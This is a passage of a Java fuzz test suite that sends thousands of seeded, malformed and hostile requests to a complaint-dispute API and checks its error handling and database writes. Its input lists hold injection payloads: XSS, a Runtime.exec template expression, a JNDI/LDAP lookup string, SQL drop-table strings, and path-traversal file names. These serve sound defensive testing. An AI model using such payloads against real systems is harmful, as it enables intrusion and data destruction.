package org.disputedesk.api;

import org.disputedesk.SampleInputs;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Supplier;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.ActiveProfiles;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.util.RawValue;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Tuple;
import net.jqwik.api.sessions.JqwikSession;

/**
 * A seeded fuzzer for every POST endpoint of the API. Thousands of generated requests — malformed
 * JSON, wrong types, boundary values, hostile strings, wrong content types and verbs, junk path ids,
 * broken uploads — by the right role, the wrong role and anonymous callers, against real cases at
 * every stage. Each response must be a 2xx for a valid request only, never a 5xx, and every 4xx a
 * problem+json whose {@code status} is the HTTP status. After each request the database must hold
 * exactly what an accepted request wrote: a refused request writes nothing at all.
 *
 * <p>Generators are jqwik {@link Arbitraries} sampled with one fixed {@link Random}, inside plain
 * JUnit tests that share one application context, so a run is reproducible: {@link #SEED}.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles({"demo", "test"})
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class FuzzApiTests {

    static final long SEED = 0xD15B_07E5L;
    static final String PASSWORD = "demo";
    static final String PROBLEM_JSON = "application/problem+json";
    /** Bodies over this size may be refused with 413 before they are parsed. */
    static final int JSON_BODY_LIMIT = 64 * 1024;

    static final List<String> CATEGORIES = List.of("QUALITY_DEFECT", "NONSTANDARD_LABEL", "NOT_AS_DESCRIBED",
            "LIVESTREAM_MISREPRESENTATION", "SIZE_MISMATCH", "DELIVERY", "AFTER_SALES_REFUSED", "OTHER");
    static final List<String> REMEDIES = List.of("REFUND", "RETURN_AND_REFUND", "EXCHANGE", "REPAIR", "COMPENSATION");
    static final List<String> NON_BUYERS = List.of("shop1", "shop2", "shop3", "mediator1", "mediator2",
            "committee1", "admin");
    static final List<String> NASTY = List.of("", " ", " \t\r\n ", "\u0000", "a\u0000b", "\u0001\u0007\u001b\u007f",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${7*7}", "#{7*7}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}", "${jndi:ldap://x/a}", "{{7*7}}", "%s%s%n%x",
            "' OR '1'='1' --", "'; drop table complaints; --", "1; select * from users", "😀🔥👩‍👩‍👧🇨🇳",
            "\u202Eevil\u202C", "مرحبا بالعالم", "שלום", "\uFEFFbom", "\u00A0", "\u3000", "null", "undefined",
            "../../../../etc/passwd", "C:\\Windows\\win.ini", "\\u0000", "\"quoted\"", "line1\nline2\r\nline3",
            "ÅÄÖ ß ñ 中文 日本語 한국어", "\u0085next\u2028line\u2029para", "\uD83D\uDE00", "a".repeat(65));

    @LocalServerPort
    int port;
    @Autowired
    JdbcClient jdbc;
    @Autowired
    ObjectMapper json;

    private final Random random = new Random(SEED);
    private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    private Supplier<String> anyText;
    private final Map<String, CaseInfo> cases = new LinkedHashMap<>();
    private final List<String[]> clauses = new ArrayList<>();
    private final List<String> failures = new ArrayList<>();
    private final Map<String, Integer> failureKinds = new TreeMap<>();
    private final Map<String, Integer> byStatusClass = new TreeMap<>();
    private final Map<String, Map<Integer, Integer>> byEndpoint = new TreeMap<>();
    private int requests;
    private long startedAt;
    private Snapshot atStart;
    private final long[] tally = new long[7]; // complaints, messages, evidence, ratings, committee rulings
    private final Map<String, Integer> acceptedBy = new TreeMap<>();

    record CaseInfo(String id, String buyer, String shopId, String park) {
    }

    /** Counts of what requests write, and a fingerprint of every complaint's mutable state. */
    record Snapshot(long complaints, long messages, long evidence, long ratings, long timeline, long rulings,
                    long violations, long tasks, long history, String fingerprint) {
    }

    /** Ordered by what decides the answer: a bean-validation error (400) wins over a domain refusal. */
    enum Validity { VALID, LENIENT, INVALID_4XX, INVALID_400 }

    enum Write { NONE, FILE, MESSAGE, EVIDENCE, RATING, STEP, RULING }

    /** One request to send and what the contract allows as its answer. */
    record Probe(String endpoint, String label, String method, String path, String user, String password,
                 String contentType, byte[] body, Map<String, String> headers, Validity validity,
                 Set<Integer> expected, Write write) {
    }

    // ------------------------------------------------------------------ setup

    @BeforeAll
    void setUp() {
        startedAt = System.nanoTime();
        JqwikSession.start(); // jqwik's generators outside its engine, driven by our own seeded Random
        Arbitrary<String> printable = Arbitraries.strings().alpha().numeric().withChars(" .,-_'\"!?%$#{}<>/\\;:()")
                .ofMinLength(1).ofMaxLength(80);
        Arbitrary<String> unicode = Arbitraries.strings().withCharRange('\u0000', '\uD7FF')
                .withCharRange('\uE000', '\uFFFD').ofMinLength(0).ofMaxLength(40);
        Arbitrary<String> emoji = Arbitraries.of("😀", "🔥", "👩‍👩‍👧", "🇨🇳", "\u200D", "\u0301")
                .list().ofMinSize(1).ofMaxSize(12).map(parts -> String.join("", parts));
        Arbitrary<String> fixed = Arbitraries.of(NASTY);
        Arbitrary<String> mixed = Arbitraries.of(NASTY).list().ofMinSize(2).ofMaxSize(4)
                .map(parts -> String.join(" ", parts));
        @SuppressWarnings("unchecked")
        Arbitrary<String> text = Arbitraries.frequencyOf(Tuple.of(4, printable), Tuple.of(2, unicode),
                Tuple.of(3, fixed), Tuple.of(1, emoji), Tuple.of(2, mixed));
        anyText = sampler(text);

        jdbc.sql("select standard_code, clause from standard_clauses order by standard_code, clause")
                .query((rs, n) -> new String[] {rs.getString(1), rs.getString(2)}).list().forEach(clauses::add);
        assertThat(clauses).isNotEmpty();

        // Real cases at every stage, so valid-looking steps reach the service layer.
        String a1 = file("buyer1", "shop-hm-001");
        file("buyer1", "shop-hm-001");
        String b1 = file("buyer1", "shop-hm-001");
        drive("shop1", b1, "shop-response", Map.of("decision", "REJECT", "message", "No."), "BUYER_REVIEW");
        String m1 = toMediation("buyer1");
        String m2 = toMediation("buyer1");
        drive("mediator1", m2, "mediation/claim", null, "MEDIATION");
        String i1 = toMediation("buyer1");
        drive("mediator1", i1, "mediation/claim", null, "MEDIATION");
        drive("mediator1", i1, "mediation/decision", Map.of("decision", "REQUEST_INFO", "party", "BUYER",
                "question", "Photo of the label?", "reasoning", "Need it."), "INFORMATION_REQUEST");
        String w2 = file("buyer1", "shop-hm-001");
        drive("buyer1", w2, "withdrawal", null, "CLOSED");

        for (int i = 0; i < 2; i++) {
            String c = toMediation("buyer2");
            drive("mediator1", c, "mediation/claim", null, "MEDIATION");
            drive("mediator1", c, "mediation/decision", Map.of("decision", "ESCALATE", "question",
                    "Does the label conform?", "reasoning", "Standards question."), "COMMITTEE_REVIEW");
        }
        String f1 = file("buyer2", "shop-hm-001");
        drive("shop1", f1, "shop-response", Map.of("decision", "ACCEPT", "message", "Sorry."), "FULFILMENT");
        String f2 = file("buyer2", "shop-hm-001");
        drive("shop1", f2, "shop-response", Map.of("decision", "ACCEPT", "message", "Sorry."), "FULFILMENT");
        drive("shop1", f2, "fulfilment", Map.of("proof", "Refunded, tx 1"), "BUYER_CONFIRMATION");
        String w1 = file("buyer2", "shop-hm-001");
        drive("buyer2", w1, "withdrawal", null, "CLOSED");
        String i2 = toMediation("buyer2");
        drive("mediator1", i2, "mediation/claim", null, "MEDIATION");
        drive("mediator1", i2, "mediation/decision", Map.of("decision", "REQUEST_INFO", "party", "SHOP",
                "question", "Fibre test report?", "reasoning", "Need it."), "INFORMATION_REQUEST");
        file("buyer2", "shop-dl-001");
        assertThat(stage(a1)).isEqualTo("SHOP_RESPONSE");
        assertThat(stage(m1)).isEqualTo("MEDIATION");

        atStart = snapshot();
        requests = 0;
        byStatusClass.clear();
    }

    private String toMediation(String buyer) {
        String id = file(buyer, "shop-hm-001");
        drive("shop1", id, "shop-response", Map.of("decision", "REJECT", "message", "No."), "BUYER_REVIEW");
        drive(buyer, id, "buyer-review", Map.of("decision", "ESCALATE"), "MEDIATION");
        return id;
    }

    private String file(String buyer, String shopId) {
        Map<String, Object> body = validFiling(shopId);
        HttpResponse<byte[]> response = send("POST", "/api/complaints", buyer, PASSWORD, "application/json",
                bytes(body), Map.of());
        assertThat(response.statusCode()).as("setup filing: %s", text(response)).isEqualTo(201);
        String id = readTree(response.body()).path("id").asText();
        cases.put(id, new CaseInfo(id, buyer, shopId, shopId.startsWith("shop-hm") ? "humen" : "dalang"));
        return id;
    }

    private void drive(String user, String id, String segment, Map<String, Object> body, String expectedStage) {
        HttpResponse<byte[]> response = send("POST", "/api/complaints/" + id + "/" + segment, user, PASSWORD,
                "application/json", body == null ? null : bytes(body), Map.of());
        assertThat(response.statusCode()).as("setup %s: %s", segment, text(response)).isEqualTo(200);
        assertThat(stage(id)).isEqualTo(expectedStage);
    }

    // ------------------------------------------------------------------ the fuzzing, endpoint by endpoint

    @Test
    @Order(1)
    void filing() {
        run("filing", 400, () -> {
            double roll = random.nextDouble();
            String buyer = pick(List.of("buyer1", "buyer2"));
            if (roll < 0.08) {
                return malformed("filing", "/api/complaints", buyer, bytes(validFiling(randomShop())));
            }
            if (roll < 0.12) {
                return wrongContentType("filing", "/api/complaints", buyer, bytes(validFiling(randomShop())));
            }
            if (roll < 0.15) {
                return idempotent(buyer);
            }
            Body body = filingBody();
            String user = buyer;
            Validity validity = body.validity;
            Set<Integer> expected = null;
            double who = random.nextDouble();
            if (who < 0.08) {
                return anonymous("filing", "POST", "/api/complaints", body.bytes());
            } else if (who < 0.2) {
                user = pick(NON_BUYERS);
                if (validity == Validity.VALID) {
                    expected = Set.of(403);
                    validity = Validity.INVALID_4XX;
                }
            }
            Map<String, String> headers = new LinkedHashMap<>();
            if (random.nextDouble() < 0.1) {
                String key = pick(List.of("", "k".repeat(129), "k".repeat(128), UUID.randomUUID().toString()));
                headers.put("Idempotency-Key", key);
                if ((key.isEmpty() || key.length() > 128) && validity != Validity.LENIENT) {
                    validity = Validity.INVALID_400;
                }
            }
            return new Probe("filing", body.label, "POST", "/api/complaints", user, PASSWORD, "application/json",
                    body.bytes(), headers, validity, expected, Write.FILE);
        });
    }

    @Test
    @Order(2)
    void messages() {
        run("messages", 280, () -> jsonStep("messages", pickCase(null),
                List.of("BUYER", "SHOP", "MEDIATOR", "COMMITTEE"), Write.MESSAGE,
                () -> object(text("text", true, 4000))));
    }

    @Test
    @Order(3)
    void evidence() {
        run("evidence", 250, this::evidenceProbe);
    }

    @Test
    @Order(4)
    void shopResponse() {
        run("shop-response", 300, () -> {
            CaseInfo target = pickCase("SHOP_RESPONSE");
            return jsonStep("shop-response", target, List.of("SHOP"), Write.STEP, () -> {
                Body body = object(enumField("decision", true, List.of("ACCEPT", "COUNTER_OFFER", "REJECT")),
                        enumField("remedy", false, REMEDIES), amount("amount", false, false),
                        text("message", true, 2000));
                if (body.validity == Validity.VALID && "COUNTER_OFFER".equals(body.values.get("decision"))) {
                    Object amount = body.values.get("amount");
                    if (!body.values.containsKey("remedy") || body.values.get("remedy") == null
                            || amount == null) {
                        body.validity = Validity.INVALID_400;
                    } else if (decimal(amount).compareTo(orderAmount(target.id())) > 0
                            && !"COMPENSATION".equals(body.values.get("remedy"))) {
                        body.validity = Validity.INVALID_4XX;
                    }
                }
                return body;
            });
        });
    }

    @Test
    @Order(5)
    void buyerReview() {
        run("buyer-review", 200, () -> jsonStep("buyer-review", pickCase("BUYER_REVIEW"), List.of("BUYER"),
                Write.STEP, () -> object(enumField("decision", true, List.of("ACCEPT", "ESCALATE")),
                        text("message", false, 2000))));
    }

    @Test
    @Order(6)
    void mediationClaim() {
        run("mediation/claim", 120, () -> bodilessStep("mediation/claim", pickCase("MEDIATION")));
    }

    @Test
    @Order(7)
    void mediationDecision() {
        run("mediation/decision", 300, () -> jsonStep("mediation/decision", pickCase("MEDIATION"),
                List.of("MEDIATOR"), Write.STEP, () -> {
                    Body body = object(enumField("decision", true,
                                    List.of("REQUEST_INFO", "SETTLE", "RULE_FOR_BUYER", "RULE_FOR_SHOP", "ESCALATE")),
                            enumField("party", false, List.of("BUYER", "SHOP")), text("question", false, 2000),
                            enumField("remedy", false, REMEDIES), amount("amount", false, false),
                            text("reasoning", true, 4000));
                    if (body.validity == Validity.VALID) {
                        Object decision = body.values.get("decision");
                        boolean asks = "REQUEST_INFO".equals(decision);
                        boolean awards = "SETTLE".equals(decision) || "RULE_FOR_BUYER".equals(decision);
                        boolean escalates = "ESCALATE".equals(decision);
                        Object question = body.values.get("question");
                        if ((asks && body.values.get("party") == null)
                                || ((asks || escalates) && (question == null || question.toString().isBlank()))
                                || (awards && (body.values.get("remedy") == null || body.values.get("amount") == null))) {
                            body.validity = Validity.INVALID_400;
                        }
                    }
                    return body;
                }));
    }

    @Test
    @Order(8)
    void information() {
        run("information", 200, () -> jsonStep("information", pickCase("INFORMATION_REQUEST"),
                List.of("BUYER", "SHOP"), Write.STEP, () -> object(text("text", true, 4000))));
    }

    @Test
    @Order(9)
    void committeeRuling() {
        run("committee-ruling", 260, () -> jsonStep("committee-ruling", pickCase("COMMITTEE_REVIEW"),
                List.of("COMMITTEE"), Write.RULING, () -> {
                    Body body = object(enumField("finding", true, List.of("CONFORMING", "NONCONFORMING",
                            "NOT_APPLICABLE")), citations(), text("reasoning", true, 4000));
                    if (body.validity == Validity.VALID && "NONCONFORMING".equals(body.values.get("finding"))
                            && (body.values.get("citations") == null
                                || ((List<?>) body.values.get("citations")).isEmpty())) {
                        body.validity = Validity.INVALID_400;
                    }
                    return body;
                }));
    }

    @Test
    @Order(10)
    void fulfilment() {
        run("fulfilment", 170, () -> jsonStep("fulfilment", pickCase("FULFILMENT"), List.of("SHOP"), Write.STEP,
                () -> object(text("proof", true, 4000))));
    }

    @Test
    @Order(11)
    void receipt() {
        run("receipt", 170, () -> jsonStep("receipt", pickCase("BUYER_CONFIRMATION"), List.of("BUYER"),
                Write.STEP, () -> object(bool("received"), text("message", false, 2000))));
    }

    @Test
    @Order(12)
    void withdrawal() {
        run("withdrawal", 120, () -> bodilessStep("withdrawal", pickCase(null)));
    }

    @Test
    @Order(13)
    void rating() {
        run("rating", 220, () -> jsonStep("rating", pickCase("CLOSED"), List.of("BUYER"), Write.RATING,
                () -> object(integer("score", 1, 5), text("comment", false, 2000))));
    }

    @Test
    @Order(14)
    void wrongVerbsAndPaths() {
        List<String> segments = List.of("messages", "evidence", "withdrawal", "shop-response", "buyer-review",
                "mediation/claim", "mediation/decision", "information", "committee-ruling", "fulfilment", "receipt",
                "rating");
        run("verbs", 160, () -> {
            String segment = pick(segments);
            String path = "/api/complaints/" + pickCase(null).id() + "/" + segment;
            String method = pick(List.of("PUT", "PATCH", "DELETE", "GET"));
            boolean readable = method.equals("GET") && (segment.equals("messages") || segment.equals("evidence"));
            if (random.nextDouble() < 0.1) {
                return anonymous("verbs", method, path, "{}".getBytes(StandardCharsets.UTF_8));
            }
            return new Probe("verbs", method + " " + segment, method, path, pick(List.of("buyer1", "shop1",
                    "mediator1", "admin")), PASSWORD, "application/json", method.equals("GET") ? null
                    : "{\"text\":\"x\"}".getBytes(StandardCharsets.UTF_8), Map.of(),
                    readable ? Validity.LENIENT : Validity.INVALID_4XX, readable ? null : Set.of(405), Write.NONE);
        });
        run("paths", 180, () -> {
            String segment = pick(segments);
            String id = junkId();
            String user = pick(List.of("buyer1", "shop1", "mediator1", "committee1", "admin"));
            String path = "/api/complaints/" + id + "/" + segment;
            if (segment.equals("evidence")) {
                Multipart upload = new Multipart().file("file", "a.png", "image/png", SampleInputs.tinyPng());
                return new Probe("paths", "junk id evidence", "POST", path, user, PASSWORD, upload.contentType(),
                        upload.bytes(), Map.of(), Validity.INVALID_4XX, null, Write.NONE);
            }
            byte[] body = bytes(Map.of("text", "x", "proof", "x", "decision", "ACCEPT", "message", "x",
                    "reasoning", "x", "finding", "CONFORMING", "received", true, "score", 3));
            return new Probe("paths", "junk id", "POST", path, user, PASSWORD, "application/json", body, Map.of(),
                    Validity.INVALID_4XX, null, Write.NONE);
        });
        run("unknown", 40, () -> {
            String path = pick(List.of("/api/complaints/" + pickCase(null).id() + "/nonsense",
                    "/api/complaints/" + pickCase(null).id() + "/mediation", "/api/complaint",
                    "/api/complaints/" + pickCase(null).id() + "/timeline", "/api/tasks", "/api/standards",
                    "/api/complaints/" + pickCase(null).id() + "/evidence/abc"));
            return new Probe("unknown", "POST " + path.replaceAll("[0-9a-f-]{36}", "{id}"), "POST", path,
                    pick(List.of("buyer1", "admin")), PASSWORD, "application/json", "{}".getBytes(),
                    Map.of(), Validity.INVALID_4XX, null, Write.NONE);
        });
    }

    @Test
    @Order(99)
    void the_database_holds_exactly_what_the_accepted_requests_wrote() {
        Snapshot end = snapshot();
        assertThat(end.complaints() - atStart.complaints()).as("complaints").isEqualTo(tally[0]);
        assertThat(end.messages() - atStart.messages()).as("messages").isEqualTo(tally[1]);
        assertThat(end.evidence() - atStart.evidence()).as("evidence").isEqualTo(tally[2]);
        assertThat(end.ratings() - atStart.ratings()).as("ratings").isEqualTo(tally[3]);
        assertThat(end.rulings() - atStart.rulings()).as("committee rulings").isEqualTo(tally[4]);
        assertThat(end.timeline() - atStart.timeline()).as("timeline").isGreaterThanOrEqualTo(tally[5]);
        assertThat(requests).as("requests sent").isGreaterThanOrEqualTo(3000);
        for (CaseInfo info : cases.values()) {
            assertThat(send("GET", "/api/complaints/" + info.id() + "/timeline", "admin", PASSWORD, null, null,
                    Map.of()).statusCode()).isEqualTo(200);
        }
    }

    @AfterAll
    void summary() {
        JqwikSession.finish();
        System.out.printf("FUZZ SUMMARY seed=%d requests=%d byClass=%s accepted=%s tally[complaints=%d messages=%d "
                        + "evidence=%d ratings=%d rulings=%d timeline>=%d] failures=%d time=%ds%n", SEED, requests,
                byStatusClass, acceptedBy, tally[0], tally[1], tally[2], tally[3], tally[4], tally[5],
                failures.size(), (System.nanoTime() - startedAt) / 1_000_000_000L);
        byEndpoint.forEach((endpoint, statuses) -> System.out.println("FUZZ " + endpoint + " " + statuses));
        failureKinds.forEach((kind, n) -> System.out.println("FUZZ FAILURE x" + n + " " + kind));
    }

    // ------------------------------------------------------------------ probes

    private Probe jsonStep(String endpoint, CaseInfo target, List<String> roles, Write write, Supplier<Body> bodies) {
        String path = "/api/complaints/" + target.id() + "/" + endpoint;
        double roll = random.nextDouble();
        String rightUser = rightUser(target, roles);
        if (roll < 0.12) {
            return malformed(endpoint, path, rightUser, bodies.get().bytes());
        }
        if (roll < 0.17) {
            return wrongContentType(endpoint, path, rightUser, bodies.get().bytes());
        }
        if (roll < 0.22) {
            return anonymous(endpoint, "POST", path, bodies.get().bytes());
        }
        if (roll < 0.24) {
            return new Probe(endpoint, "bad credentials", "POST", path, "intruder", "wrong", "application/json",
                    bodies.get().bytes(), Map.of(), Validity.INVALID_4XX, Set.of(401), Write.NONE);
        }
        Body body = bodies.get();
        String user = rightUser;
        Validity validity = body.validity;
        Set<Integer> expected = null;
        String label = body.label;
        if (roll < 0.36) {
            user = wrongRoleUser(roles);
            label = "wrong role; " + label;
            if (validity == Validity.VALID) {
                validity = Validity.INVALID_4XX;
                expected = Set.of(403, 404);
            }
        }
        return new Probe(endpoint, label, "POST", path, user, PASSWORD, "application/json", body.bytes(), Map.of(),
                validity, expected, write);
    }

    private Probe bodilessStep(String endpoint, CaseInfo target) {
        String path = "/api/complaints/" + target.id() + "/" + endpoint;
        List<String> roles = endpoint.equals("withdrawal") ? List.of("BUYER") : List.of("MEDIATOR");
        double roll = random.nextDouble();
        if (roll < 0.1) {
            return anonymous(endpoint, "POST", path, null);
        }
        String user = roll < 0.35 ? wrongRoleUser(roles) : rightUser(target, roles);
        boolean wrong = roll < 0.35;
        // A body, a content type or none: the step takes no body, so none of it matters.
        String type = pick(java.util.Arrays.asList("application/json", "text/plain", null, "application/xml"));
        byte[] body = random.nextBoolean() ? null : pick(List.of("{}", "garbage{", "null", "[1,2]", ""))
                .getBytes(StandardCharsets.UTF_8);
        return new Probe(endpoint, (wrong ? "wrong role" : "party") + " body=" + (body == null ? "none" : "junk"),
                "POST", path, user, PASSWORD, type, body, Map.of(), wrong ? Validity.INVALID_4XX : Validity.VALID,
                wrong ? Set.of(403, 404) : null, Write.STEP);
    }

    private Probe evidenceProbe() {
        CaseInfo target = pickCase(null);
        String path = "/api/complaints/" + target.id() + "/evidence";
        String user = rightUser(target, List.of("BUYER", "SHOP", "MEDIATOR"));
        double roll = random.nextDouble();
        if (roll < 0.06) {
            Multipart upload = new Multipart().file("file", "a.png", "image/png", SampleInputs.tinyPng());
            return anonymous("evidence", "POST", path, upload.bytes(), upload.contentType());
        }
        if (roll < 0.12) {
            Multipart upload = new Multipart().file("file", "a.png", "image/png", SampleInputs.tinyPng());
            return new Probe("evidence", "wrong role", "POST", path, pick(List.of("committee1", "admin")), PASSWORD,
                    upload.contentType(), upload.bytes(), Map.of(), Validity.INVALID_4XX, Set.of(403, 404),
                    Write.NONE);
        }
        if (roll < 0.17) {
            String type = pick(java.util.Arrays.asList("application/json", "text/plain", null,
                    "application/octet-stream", "application/x-www-form-urlencoded"));
            return new Probe("evidence", "not multipart: " + type, "POST", path, user, PASSWORD, type,
                    SampleInputs.tinyPng(), Map.of(), Validity.INVALID_4XX, Set.of(400, 415), Write.NONE);
        }
        if (roll < 0.22) {
            Multipart upload = new Multipart().file("file", "a.png", "image/png", SampleInputs.tinyPng());
            byte[] whole = upload.bytes();
            byte[] broken = switch (random.nextInt(3)) {
                case 0 -> java.util.Arrays.copyOf(whole, whole.length / 2);
                case 1 -> "--nope\r\nContent-Disposition: form-data\r\n\r\n".getBytes(StandardCharsets.UTF_8);
                default -> new byte[0];
            };
            return new Probe("evidence", "broken multipart", "POST", path, user, PASSWORD, upload.contentType(),
                    broken, Map.of(), Validity.INVALID_4XX, Set.of(400), Write.NONE);
        }
        if (roll < 0.24) {
            Multipart upload = new Multipart().file("file", "big.png", "image/png",
                    java.util.Arrays.copyOf(SampleInputs.tinyPng(), 10 * 1024 * 1024 + 1));
            return new Probe("evidence", "over 10 MB", "POST", path, user, PASSWORD, upload.contentType(),
                    upload.bytes(), Map.of(), Validity.INVALID_4XX, Set.of(413), Write.NONE);
        }
        Multipart upload = new Multipart();
        Validity validity = Validity.VALID;
        Set<Integer> expected = null;
        String label;
        String name = pick(List.of("photo.png", "../../etc/passwd", "a\u0000b.png", "😀.jpg", "x".repeat(300) + ".pdf",
                "", "  ", "<script>.png", "${7*7}.gif", "C:\\fakepath\\label.jpg", "\u202Egnp.exe"));
        switch (random.nextInt(10)) {
            case 0 -> {
                label = "empty file";
                upload.file("file", name, "image/png", new byte[0]);
                validity = Validity.INVALID_4XX;
                expected = Set.of(400, 415);
            }
            case 1 -> {
                label = "random bytes";
                byte[] junk = new byte[1 + random.nextInt(4096)];
                random.nextBytes(junk);
                junk[0] = 0x01;
                upload.file("file", name, "application/octet-stream", junk);
                validity = Validity.INVALID_4XX;
                // 400 when the picked name itself is unreadable (a NUL), 415 for the content
                expected = Set.of(400, 415);
            }
            case 2 -> {
                label = "text named .png";
                upload.file("file", "label.png", "image/png", ("just text " + anyText.get())
                        .getBytes(StandardCharsets.UTF_8));
                validity = Validity.INVALID_4XX;
                expected = Set.of(415);
            }
            case 3 -> {
                label = "pdf header with junk";
                byte[] junk = new byte[random.nextInt(2048)];
                random.nextBytes(junk);
                upload.file("file", name, "application/pdf", concat("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII),
                        junk));
                validity = Validity.LENIENT;
            }
            case 4 -> {
                label = "missing file part";
                upload.field("note", "no file");
                if (random.nextBoolean()) {
                    upload.file("files", "a.png", "image/png", SampleInputs.tinyPng());
                }
                validity = Validity.INVALID_400;
            }
            case 5 -> {
                String note = random.nextBoolean() ? "n".repeat(1001) : "😀".repeat(501);
                label = "note over 1000";
                upload.file("file", "a.png", "image/png", SampleInputs.tinyPng()).field("note", note);
                validity = Validity.INVALID_400;
            }
            default -> {
                String note = random.nextBoolean() ? null : random.nextBoolean() ? "n".repeat(1000) : anyText.get();
                label = "valid image" + (note == null ? "" : " with note");
                byte[] content = pick(List.of(SampleInputs.tinyPng(), jpeg(), gif(), pdf()));
                upload.file("file", name, pick(List.of("image/png", "application/octet-stream", "text/plain")),
                        content);
                if (name.isBlank() || name.chars().anyMatch(Character::isISOControl)) {
                    validity = Validity.LENIENT; // a file name a browser would not send
                }
                if (note != null) {
                    upload.field("note", note);
                    if (note.length() > 1000) {
                        validity = Validity.INVALID_400;
                    }
                }
            }
        }
        return new Probe("evidence", label, "POST", path, user, PASSWORD, upload.contentType(), upload.bytes(),
                Map.of(), validity, expected, Write.EVIDENCE);
    }

    private Probe idempotent(String buyer) {
        Map<String, Object> body = validFiling("shop-hm-001");
        String key = "fuzz-" + UUID.randomUUID();
        Probe first = new Probe("filing", "idempotency first", "POST", "/api/complaints", buyer, PASSWORD,
                "application/json", bytes(body), Map.of("Idempotency-Key", key), Validity.VALID, null, Write.FILE);
        HttpResponse<byte[]> response = execute(first);
        if (response == null || response.statusCode() != 201) {
            return first; // rate-limited or refused: nothing to replay
        }
        if (random.nextBoolean()) {
            return new Probe("filing", "idempotency replay", "POST", "/api/complaints", buyer, PASSWORD,
                    "application/json", bytes(body), Map.of("Idempotency-Key", key), Validity.VALID, Set.of(200),
                    Write.FILE);
        }
        body.put("description", "another body");
        return new Probe("filing", "idempotency other body", "POST", "/api/complaints", buyer, PASSWORD,
                "application/json", bytes(body), Map.of("Idempotency-Key", key), Validity.INVALID_4XX, Set.of(422),
                Write.FILE);
    }

    private Probe malformed(String endpoint, String path, String user, byte[] valid) {
        String s = new String(valid, StandardCharsets.UTF_8);
        int cut = 1 + random.nextInt(Math.max(1, s.length() - 1));
        String[] labels = {"truncated", "trailing garbage", "trailing brace", "wrong brackets", "empty body", "null",
                "array", "array of body", "string", "number", "true", "single quotes", "unquoted keys",
                "comment", "NaN", "deep nesting", "huge number", "invalid utf-8", "5 MB body", "1 MB string",
                "duplicate braces", "missing value"};
        int which = random.nextInt(labels.length);
        byte[] body = switch (which) {
            case 0 -> s.substring(0, cut).getBytes(StandardCharsets.UTF_8);
            case 1 -> (s + " xyz").getBytes(StandardCharsets.UTF_8);
            case 2 -> (s + "}").getBytes(StandardCharsets.UTF_8);
            case 3 -> ("[" + s.substring(1, s.length() - 1) + "]").getBytes(StandardCharsets.UTF_8);
            case 4 -> new byte[0];
            case 5 -> "null".getBytes(StandardCharsets.UTF_8);
            case 6 -> "[]".getBytes(StandardCharsets.UTF_8);
            case 7 -> ("[" + s + "]").getBytes(StandardCharsets.UTF_8);
            case 8 -> "\"text\"".getBytes(StandardCharsets.UTF_8);
            case 9 -> "42".getBytes(StandardCharsets.UTF_8);
            case 10 -> "true".getBytes(StandardCharsets.UTF_8);
            case 11 -> s.replace('"', '\'').getBytes(StandardCharsets.UTF_8);
            case 12 -> s.replaceAll("\"(\\w+)\":", "$1:").getBytes(StandardCharsets.UTF_8);
            case 13 -> ("/* c */ " + s).getBytes(StandardCharsets.UTF_8);
            case 14 -> "{\"text\": NaN, \"score\": NaN, \"amount\": NaN}".getBytes(StandardCharsets.UTF_8);
            case 15 -> ("{\"text\":" + "[".repeat(5000) + "]".repeat(5000) + "}").getBytes(StandardCharsets.UTF_8);
            case 16 -> ("{\"score\": 1" + "0".repeat(5000) + ", \"amount\": 1" + "0".repeat(5000) + "}")
                    .getBytes(StandardCharsets.UTF_8);
            case 17 -> concat("{\"text\": \"a".getBytes(StandardCharsets.UTF_8),
                    new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE}, "\"}".getBytes(StandardCharsets.UTF_8));
            case 18 -> ("{\"pad\": [" + "1,".repeat((1 + random.nextInt(5)) * 1024 * 1024 / 2) + "1]}")
                    .getBytes(StandardCharsets.UTF_8);
            case 19 -> ("{\"text\":\"" + "x".repeat(1024 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
            case 20 -> ("{" + s).getBytes(StandardCharsets.UTF_8);
            default -> "{\"text\": }".getBytes(StandardCharsets.UTF_8);
        };
        Validity validity = Validity.INVALID_400;
        Set<Integer> expected = Set.of(400);
        if (which == 18 || which == 19) {
            // Valid JSON, but an unknown field of megabytes or a text over every limit: 400, or 413 for its size.
            expected = Set.of(400, 413);
            validity = Validity.INVALID_4XX;
        }
        return new Probe(endpoint, "malformed: " + labels[which], "POST", path, user, PASSWORD, "application/json",
                body, Map.of(), validity, expected, Write.NONE);
    }

    private Probe wrongContentType(String endpoint, String path, String user, byte[] valid) {
        String type = pick(java.util.Arrays.asList("text/plain", "application/x-www-form-urlencoded", null,
                "application/xml", "multipart/form-data; boundary=x", "not a mime type", "image/png"));
        return new Probe(endpoint, "content type " + type, "POST", path, user, PASSWORD, type, valid, Map.of(),
